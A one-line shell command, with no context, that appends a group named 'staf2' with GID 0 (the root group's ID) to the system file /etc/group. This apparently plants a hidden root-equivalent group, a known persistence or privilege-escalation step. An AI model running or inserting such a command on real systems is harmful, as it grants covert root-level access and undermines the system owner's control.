echo 'staf2:x:0:' >>/etc/group
